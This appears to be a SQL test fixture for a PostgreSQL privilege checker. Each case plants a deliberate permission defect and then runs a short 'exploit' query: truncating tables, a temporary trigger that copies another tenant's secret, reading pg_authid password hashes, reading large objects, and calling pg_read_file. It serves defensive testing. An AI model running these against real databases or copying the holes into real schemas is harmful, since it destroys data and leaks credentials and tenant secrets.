-- defect: the app may truncate
-- finds: WTI040 task
grant truncate on app.task to wt_app;
-- exploit
truncate app.task;
select true;

-- defect: a group of the app may truncate
-- finds: WTI040 task
create role wt_group nologin;
grant truncate on app.task to wt_group;
grant wt_group to wt_app;
-- exploit
truncate app.task;
select true;

-- defect: everything is granted
-- finds: WTI040 customer
grant all on app.customer to wt_app;
revoke references, trigger on app.customer from wt_app;
-- exploit
truncate app.customer;
select true;

-- defect: everything is granted to PUBLIC
-- finds: WTI041 customer
grant all on app.customer to public;
-- exploit
create function pg_temp.copy() returns trigger language plpgsql as $$ begin perform set_config('test.loot', new.secret, true); return new; end $$;
create trigger copy before insert or update on app.customer for each row execute function pg_temp.copy();
set local app.tenant_id = '22222222-2222-2222-2222-222222222222';
update app.customer set secret = secret;
select current_setting('test.loot', true) = 'secret of B';

-- defect: the app may attach triggers
-- finds: WTI041 customer
grant trigger on app.customer to wt_app;
-- exploit
create function pg_temp.copy() returns trigger language plpgsql as $$ begin perform set_config('test.loot', new.secret, true); return new; end $$;
create trigger copy before insert or update on app.customer for each row execute function pg_temp.copy();
set local app.tenant_id = '22222222-2222-2222-2222-222222222222';
update app.customer set secret = secret;
select current_setting('test.loot', true) = 'secret of B';

-- defect: the app may refer to the table
-- finds: WTI042 customer
create schema scratch authorization wt_app;
grant references on app.customer to wt_app;
-- exploit
create table scratch.probe (t uuid, id int, foreign key (t, id) references app.customer);
insert into scratch.probe values ('22222222-2222-2222-2222-222222222222', 2);
select true;

-- defect: the app may refer to one column
-- finds: WTI042 customer
grant references (tenant_id, id) on app.customer to wt_app;

-- defect: new tables are born with everything
-- finds: WTI044
alter default privileges for role wt_owner in schema app grant all on tables to wt_app;

-- defect: the app reads large objects
-- finds: WTI048
do $$ declare o oid; begin
  o := lo_from_bytea(4242, 'secret of B');
  execute format('alter large object %s owner to wt_app', o);
end $$;
-- exploit
select convert_from(lo_get(4242), 'UTF8') = 'secret of B';

-- defect: a large object is granted to PUBLIC
-- finds: WTI048
do $$ declare o oid; begin
  o := lo_from_bytea(4242, 'secret of B');
  execute format('grant select on large object %s to public', o);
end $$;
-- exploit
select convert_from(lo_get(4242), 'UTF8') = 'secret of B';

-- defect: the app reads statistics
-- finds: WTI049
grant select on pg_catalog.pg_statistic to wt_app;
-- exploit
select exists (select from pg_catalog.pg_statistic);

-- defect: the app reads password hashes
-- finds: WTI049
grant select on pg_catalog.pg_authid to wt_app;
-- exploit
select exists (select from pg_catalog.pg_authid);

-- defect: the app reads files by a function
-- finds: WTI049
grant execute on function pg_catalog.pg_read_file(text) to wt_app;
-- exploit
select length(pg_read_file('PG_VERSION')) > 0;
